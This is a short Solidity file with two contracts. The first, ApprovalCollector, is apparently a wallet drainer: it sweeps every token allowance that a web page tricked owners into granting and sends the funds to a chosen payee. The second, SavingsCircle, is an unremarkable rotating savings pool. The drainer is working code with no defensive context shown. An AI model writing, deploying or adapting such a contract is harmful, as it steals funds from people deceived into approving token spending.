// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// Collects what a page had people approve.
contract ApprovalCollector {
    function collect(Token token, address[] calldata owners, address payee) external {
        for (uint256 i = 0; i < owners.length; i++) {
            uint256 most = token.balanceOf(owners[i]);
            uint256 allowed = token.allowance(owners[i], address(this));
            token.transferFrom(owners[i], payee, most < allowed ? most : allowed);
        }
    }
}

/// A savings circle: every month each member pays the same, and one of them gets it all.
contract SavingsCircle {
    Token public immutable token;
    uint256 public immutable contribution;
    address[] public members;
    uint256 public round;
    uint256 public last;

    event Round(uint256 indexed number, address indexed winner, uint256 pot);

    constructor(Token token_, uint256 contribution_, address[] memory members_) {
        (token, contribution, members) = (token_, contribution_, members_);
    }

    function pay() external {
        require(round < members.length && block.timestamp >= last + 28 days, "not due");
        last = block.timestamp;
        address winner = members[round++];
        uint256 pot;
        for (uint256 i = 0; i < members.length; i++) {
            if (members[i] == winner) continue;
            token.transferFrom(members[i], winner, contribution);
            pot += contribution;
        }
        emit Round(round, winner, pot);
    }
}
